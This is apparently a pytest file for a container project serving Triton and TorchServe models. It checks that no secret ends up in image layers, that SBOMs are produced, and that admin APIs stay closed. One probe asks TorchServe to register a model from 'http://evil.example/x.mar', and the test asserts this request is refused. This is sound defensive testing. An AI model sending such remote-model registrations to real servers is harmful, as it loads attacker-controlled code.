"""Security posture: no secret in any layer, an SBOM per image, Triton's admin APIs closed,
opt-in gRPC and metrics on loopback in the safe range, TorchServe's TS_* overrides off.

The marker test builds an image with a CA bundle and pip index credentials that hold a
unique marker (as BuildKit secrets, the only way byoc passes them), then reads every byte
of `docker save` (each layer's tar, the image config with its history, the manifest) for
the marker in plain and in base64 form. It builds without the layer cache: a cached build
would run no RUN step, so the secrets would never be used and the scan would prove nothing.
"""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path

import pytest
import requests

from byoc import launcher, sbom
from byoc.verify.contract import listening_sockets

REPO = Path(__file__).resolve().parents[2]


# -- no secret in any layer ------------------------------------------------------------------

def scan_saved_image(stream, needles: list[bytes]) -> tuple[int, list[str]]:
    """Read a `docker save` tar stream; (layers scanned, members holding a needle)."""
    overlap = max(len(n) for n in needles)
    layers, found = 0, []
    with tarfile.open(fileobj=stream, mode="r|") as saved:
        for member in saved:
            if not member.isfile():
                continue
            handle = saved.extractfile(member)
            is_layer = member.name.endswith("layer.tar") or member.name.startswith("blobs/")
            layers += is_layer
            tail = b""
            while chunk := handle.read(1 << 20):
                window = tail + chunk
                if any(needle in window for needle in needles):
                    found.append(member.name)
                    break
                tail = window[-overlap:]
    return layers, found


class _Stream(io.RawIOBase):
    """A file over docker-py's chunk iterator, for tarfile's stream mode."""

    def __init__(self, chunks):
        self._chunks = iter(chunks)
        self._buffer = b""

    def readable(self) -> bool:
        return True

    def readinto(self, target) -> int:
        while not self._buffer:
            try:
                self._buffer = next(self._chunks)
            except StopIteration:
                return 0
        size = min(len(target), len(self._buffer))
        target[:size], self._buffer = self._buffer[:size], self._buffer[size:]
        return size


def needles_for(marker: str) -> list[bytes]:
    forms = [marker.encode(), base64.b64encode(f"byoc-user:{marker}".encode())]
    return forms + [base64.b64encode(marker.encode())]


def test_the_scanner_finds_a_marker_in_a_layer(tmp_path):
    """The positive control: a saved-image-shaped tar with the marker deep in a layer."""
    marker = f"byoc-marker-{uuid.uuid4().hex}"
    layer = io.BytesIO()
    with tarfile.open(fileobj=layer, mode="w") as inner:
        data = b"x" * (3 << 20) + marker.encode() + b"y" * 100
        info = tarfile.TarInfo("etc/pip.conf")
        info.size = len(data)
        inner.addfile(info, io.BytesIO(data))
    saved = io.BytesIO()
    with tarfile.open(fileobj=saved, mode="w") as outer:
        for name, blob in (("abc/layer.tar", layer.getvalue()), ("manifest.json", b"[]")):
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            outer.addfile(info, io.BytesIO(blob))
    saved.seek(0)
    assert scan_saved_image(saved, needles_for(marker)) == (1, ["abc/layer.tar"])


def test_no_ca_bundle_or_index_credentials_in_any_layer(tmp_path, docker_engine):
    marker = f"byoc-marker-{uuid.uuid4().hex}"
    system_ca = Path("/etc/ssl/certs/ca-certificates.crt")
    ca = tmp_path / "ca-with-marker.pem"
    ca.write_text(system_ca.read_text() + f"\n# {marker}\n")
    tag = f"byoc-test/secret-scan:{marker[-8:]}"
    env = {**os.environ,
           # Credentials in the index URL, as private indexes take them. The host is PyPI's,
           # so the build still resolves; pip sends them, and must not write them down.
           "BYOC_PIP_EXTRA_INDEX_URL": f"https://byoc-user:{marker}@pypi.org/simple"}
    result = subprocess.run(
        [sys.executable, str(REPO / "build.py"), "triton", "--variant", "cpu", "--no-cache",
         "--ca-cert", str(ca), "--tag", tag], cwd=REPO, env=env, capture_output=True,
        text=True, timeout=1500)
    try:
        assert result.returncode == 0, result.stderr[-3000:]
        assert marker not in result.stdout  # the build's own output does not echo it either
        image = docker_engine.images.get(tag)
        layers, found = scan_saved_image(_Stream(image.save(chunk_size=1 << 20)),
                                         needles_for(marker))
        print(f"\nmarker scan of {tag}: {layers} layers scanned, matches: {len(found)}",
              file=sys.stderr)
        assert layers >= 5, f"only {layers} layers in docker save: the scan saw nothing"
        assert found == [], f"the marker is in {found}"
    finally:
        subprocess.run(["docker", "rmi", "-f", tag], capture_output=True, timeout=120)


# -- SBOM and known vulnerabilities --------------------------------------------------------

@pytest.fixture(scope="module", params=["torchserve_image", "triton_image"])
def image_sbom(request, tmp_path_factory):
    image = request.getfixturevalue(request.param)
    out = tmp_path_factory.mktemp("sbom") / "image.cdx.json"
    return image, sbom.write_sbom(image, out)


def test_sbom_is_cyclonedx_covering_debian_and_the_venv(image_sbom):
    image, made = image_sbom
    document = json.loads(made.path.read_text())
    names = {c.get("name") for c in document["components"]}
    print(f"\nSBOM {image}: {made.path.name}, {made.components} components "
          f"({made.debian} Debian, {made.python} Python)", file=sys.stderr)
    assert document["bomFormat"] == "CycloneDX" and document["specVersion"].startswith("1.")
    assert made.debian >= 50 and made.python >= 20, (made.debian, made.python)
    assert {"libc6", "python3.11", "numpy", "torch", "pillow"} <= names
    assert ({"torchserve"} if "torchserve" in image else {"nvidia-pytriton"}) <= names
    not_seen = [p["value"] for p in document["metadata"]["properties"]
                if p["name"] == "byoc:not-seen"]
    assert any(".jar" in item for item in not_seen)


def test_vulnerability_report_is_never_a_pass_it_did_not_measure(image_sbom, tmp_path):
    _, made = image_sbom
    report = sbom.vulnerability_report(made, tmp_path / "vulnerabilities.json")
    print(f"\nvulnerability report: {report.status}: {report.detail[:300]}", file=sys.stderr)
    assert report.status in ("checked", "not checked")
    if report.status == "not checked":
        assert report.findings is None and "database" in report.detail
    else:
        assert report.findings is not None and report.path.is_file()


def test_sbom_pushed_as_an_artifact_referring_to_the_image(image_sbom, tmp_path):
    """The SBOM rides with the image: an OCI manifest whose subject is the image's."""
    from byoc import localregistry
    from byoc.registry import Credentials, Endpoint, RegistryClient

    if not Path(localregistry.BINARY).exists():
        pytest.fail(f"{localregistry.BINARY} missing: `make setup` installs docker-registry")
    image, made = image_sbom
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    proc = localregistry.start(tmp_path / "registry", port, {"AWS": "secret"})
    try:
        subject = {"mediaType": "application/vnd.docker.distribution.manifest.v2+json",
                   "schemaVersion": 2, "config": {"mediaType":
                   "application/vnd.docker.container.image.v1+json", "size": 2,
                   "digest": sbom.EMPTY_DIGEST}, "layers": []}
        endpoint, _ = Endpoint.parse(f"127.0.0.1:{port}")
        reg = RegistryClient(endpoint, Credentials("AWS", "secret", "test"), auth_tip="")
        # The image's manifest stands in as a minimal one: the artifact only refers to it.
        body = json.dumps(subject).encode()
        for blob in (b"{}",):
            started = reg.request("POST", "/v2/byoc-sbom/blobs/uploads/",
                                  scope="repository:byoc-sbom:pull,push")
            location = started.headers["Location"].split(endpoint.url, 1)[-1]
            joiner = "&" if "?" in location else "?"
            reg.request("PUT", f"{location}{joiner}digest={sbom.EMPTY_DIGEST}", data=blob,
                        scope="repository:byoc-sbom:pull,push")
        put = reg.request("PUT", "/v2/byoc-sbom/manifests/v1", data=body,
                          scope="repository:byoc-sbom:pull,push",
                          headers={"Content-Type": subject["mediaType"]})
        assert put.status_code == 201, put.text
        digest = put.headers["Docker-Content-Digest"]
        pushed = sbom.push_sbom(reg, "byoc-sbom", made, digest, subject["mediaType"], len(body))
        assert pushed is not None
        got = requests.get(f"{endpoint.url}/v2/byoc-sbom/manifests/{sbom.artifact_tag(digest)}",
                           auth=("AWS", "secret"), timeout=10,
                           headers={"Accept": sbom.OCI_MANIFEST})
        assert got.status_code == 200
        manifest = got.json()
        assert manifest["subject"]["digest"] == digest
        assert manifest["artifactType"] == sbom.CYCLONEDX_MEDIA_TYPE
        blob = requests.get(f"{endpoint.url}/v2/byoc-sbom/blobs/{made.digest}",
                            auth=("AWS", "secret"), timeout=30)
        assert blob.content == made.path.read_bytes()
        reg.close()
    finally:
        localregistry.stop_process(proc.pid)
        proc.wait(timeout=10)


# -- server posture ---------------------------------------------------------------------------

ADMIN_PROBE = """
import json, urllib.request as u, urllib.error as e
port = {port}
def call(method, path, body=None, headers=None):
    req = u.Request(f'http://127.0.0.1:{{port}}' + path, method=method,
                    data=json.dumps(body).encode() if body is not None else None,
                    headers=headers or {{}})
    try:
        return u.urlopen(req, timeout=5).status
    except e.HTTPError as err:
        return err.code
print(json.dumps({{
    'unload': call('POST', '/v2/repository/models/digits/unload', {{}}),
    'load': call('POST', '/v2/repository/models/digits/load', {{}}),
    'index': call('POST', '/v2/repository/index', {{}}),
    'logging': call('POST', '/v2/logging', {{'log_verbose_level': 1}}),
    'shm': call('GET', '/v2/systemsharedmemory/status'),
    'trace': call('POST', '/v2/trace/setting', {{'trace_level': ['TIMESTAMPS']}}),
    'wrong_key': call('POST', '/v2/repository/models/digits/unload', {{}},
                      {{'x-byoc-admin-key': 'guess'}}),
    'ready': call('GET', '/v2/models/digits/ready'),
}}))
"""


def test_security_triton_model_control_is_closed_on_loopback(triton_image):
    with launcher.launched(triton_image, name_hint="byoc-test-security") as running:
        running.wait_ready()
        sockets = listening_sockets(running)
        loopback = sorted(p for p, scope in sockets.items() if scope == "loopback")
        http_port = loopback[0]
        out = running.container.exec_run(["python", "-c", ADMIN_PROBE.format(port=http_port)])
        answers = json.loads(out.output.decode().strip().splitlines()[-1])
        still = requests.post(f"{running.url}/invocations", timeout=30,
                              json={"instances": [[0] * 64]}).status_code
        logs = running.logs()
    refused = {name: code for name, code in answers.items() if name != "ready"}
    assert all(code in (401, 403) for code in refused.values()), answers
    assert answers["ready"] == 200 and still == 200  # inference is not restricted
    [started] = [line for line in logs.splitlines() if "starting tritonserver" in line]
    assert "x-byoc-admin-key=***" in started and "--http-restricted-api=" in started


def test_security_c03_triton_grpc_and_metrics_on_loopback_in_the_safe_range(triton_image):
    env = {"SAGEMAKER_TRITON_ALLOW_GRPC": "true", "SAGEMAKER_TRITON_ALLOW_METRICS": "true",
           "SAGEMAKER_BIND_TO_PORT": "9090", "SAGEMAKER_SAFE_PORT_RANGE": "9100-9110"}
    with launcher.launched(triton_image, env=env, name_hint="byoc-test-security") as running:
        running.wait_ready()
        sockets = listening_sockets(running)
        metrics = running.container.exec_run(["python", "-c", (
            "import urllib.request as u\n"
            "for p in range(9100, 9111):\n"
            "    try:\n"
            "        body = u.urlopen(f'http://127.0.0.1:{p}/metrics', timeout=2).read()\n"
            "        print(p, b'nv_inference' in body); break\n"
            "    except Exception:\n"
            "        pass\n")]).output.decode().split()
    public = sorted(p for p, scope in sockets.items() if scope == "public")
    others = sorted(p for p in sockets if p != 9090)
    assert public == [9090], sockets
    assert len(others) >= 3 and all(9100 <= p <= 9110 for p in others), sockets
    assert metrics and metrics[1] == "True", metrics  # metrics really served, on loopback


def test_security_torchserve_ignores_ts_environment_overrides(torchserve_image):
    """enable_envvars_config=false: TS_* variables cannot turn model registration on or
    move an API off loopback."""
    env = {"TS_ENABLE_MODEL_API": "true", "TS_MANAGEMENT_ADDRESS": "http://0.0.0.0:8181",
           "TS_DISABLE_TOKEN_AUTHORIZATION": "false", "TS_ALLOWED_URLS": ".*"}
    probe = ("import urllib.request as u, urllib.error as e\n"
             "req = u.Request('http://127.0.0.1:8082/models?url=http://evil.example/x.mar',"
             " method='POST')\n"
             "try:\n    print(u.urlopen(req, timeout=5).status)\n"
             "except e.HTTPError as err:\n    print(err.code)\n")
    with launcher.launched(torchserve_image, env=env, name_hint="byoc-test-security") as running:
        running.wait_ready()
        sockets = listening_sockets(running)
        refused = running.container.exec_run(["python", "-c", probe]).output.decode().strip()
    assert [p for p, scope in sockets.items() if scope == "public"] == [8080], sockets
    assert refused in ("400", "403", "404", "405"), refused
